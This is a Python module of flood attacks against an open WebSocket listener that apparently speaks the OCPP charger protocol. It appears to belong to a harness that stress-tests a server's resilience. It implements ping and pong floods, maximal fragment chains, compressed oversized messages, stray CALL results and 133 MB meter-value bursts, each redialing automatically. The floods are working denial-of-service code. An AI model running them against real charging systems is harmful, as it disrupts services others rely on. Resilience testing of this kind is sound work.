"""Floods of frames on an open listener: each costs the sender a few bytes."""

import asyncio
import random
import zlib

from attack.driver import Attacker
from attack.sockets import DEFLATE, ENDED, RefusedError, dial, text
from frames import CONT, FIN, PING, PONG, RSV1, TEXT, frame

FLOOD = 4 << 20  # bytes of control frames in one go
EMPTY_TEXTS = frame(FIN | TEXT) * (252_000 // 6)
REDIAL = 0.1  # seconds; a flood of dials is another attack


async def _flood(attacker: Attacker, number: int, data: bytes, extra: str = "") -> None:
    """Send ``data`` again and again, from one identity; read what comes back."""
    identity = attacker.identity(f"{attacker.order.attack.split()[0]}{number}")
    while True:
        try:
            async with dial(attacker.ports.open, identity, extra=extra) as socket:
                reading = asyncio.create_task(socket.discard())
                try:
                    while not reading.done():
                        await socket.send(data)
                        attacker.counts["KiB sent"] += len(data) >> 10
                finally:
                    reading.cancel()
        except (*ENDED, RefusedError):
            attacker.counts["redials"] += 1
        if not await attacker.pause(REDIAL):
            return


async def _floods(attacker: Attacker, data: bytes, connections: int = 1, extra: str = "") -> None:
    await attacker.until_stop(*(_flood(attacker, number, data, extra) for number in range(connections)))


async def pings(attacker: Attacker) -> None:
    """Empty pings, 6 bytes each."""
    await _floods(attacker, frame(FIN | PING) * (FLOOD // 6))


async def pongs(attacker: Attacker) -> None:
    """Empty pongs."""
    await _floods(attacker, frame(FIN | PONG) * (FLOOD // 6))


async def fragments(attacker: Attacker) -> None:
    """Messages of 999 empty fragments: one more would be refused."""
    message = frame(TEXT) + frame(CONT) * 997 + frame(FIN | CONT)
    await _floods(attacker, message * (FLOOD // len(message)))


async def deflated(attacker: Attacker) -> None:
    """Messages of 198 KB that inflate to twice as much; every other one is a CALL."""
    dice = random.Random(1)
    data = dice.randbytes(193_000).hex()
    messages = [data, f'[2,"d","DataTransfer",{{"vendorId":"x","data":"{data}"}}]']
    frames = b"".join(frame(FIN | TEXT | RSV1, _deflate(message.encode())) for message in messages)
    await _floods(attacker, frames, connections=8, extra=DEFLATE)


def _deflate(message: bytes) -> bytes:
    press = zlib.compressobj(9, zlib.DEFLATED, -15)
    return (press.compress(message) + press.flush(zlib.Z_SYNC_FLUSH))[:-4]


async def empty_texts(attacker: Attacker) -> None:
    """Empty text frames in chunks of 252 KB, a ping behind each."""
    await _floods(attacker, EMPTY_TEXTS + frame(FIN | PING), connections=8)


async def stray_answers(attacker: Attacker) -> None:
    """Results and errors of CALLs that nobody sent."""
    stray = text('[3,"none",{"status":"Accepted"}]') + text('[4,"none","InternalError","",{}]')
    await _floods(attacker, stray * (FLOOD // len(stray)), connections=4)


async def large_meter_values(attacker: Attacker) -> None:
    """267 MeterValues of 500 KB from one charger, 133 MB, the same identity in each round."""
    value = '{"value":"1234567.890","context":"Sample.Periodic","unit":"Wh"}'
    values = ",".join([value] * (498_000 // (len(value) + 1)))
    while True:
        try:
            async with dial(attacker.ports.open, "METER") as socket:
                reading = asyncio.create_task(socket.serve())
                try:
                    for number in range(267):
                        # Transaction messages are deduplicated by their payload.
                        at = f"2026-03-01T{attacker.order.round:02}:{number // 60:02}:{number % 60:02}Z"
                        meter = f'{{"timestamp":"{at}","sampledValue":[{values}]}}'
                        payload = f'{{"connectorId":1,"meterValue":[{meter}]}}'
                        sending = asyncio.create_task(
                            socket.send(text(f'[2,"{number}","MeterValues",{payload}]'))
                        )
                        stopping = asyncio.create_task(attacker.stop.wait())
                        await asyncio.wait({sending, reading, stopping}, return_when=asyncio.FIRST_COMPLETED)
                        stopping.cancel()
                        if not sending.done():
                            sending.cancel()
                            break
                        sending.result()
                        attacker.counts["messages sent"] += 1
                finally:
                    reading.cancel()
        except (*ENDED, RefusedError):
            attacker.counts["redials"] += 1
        if not await attacker.pause(REDIAL):
            return
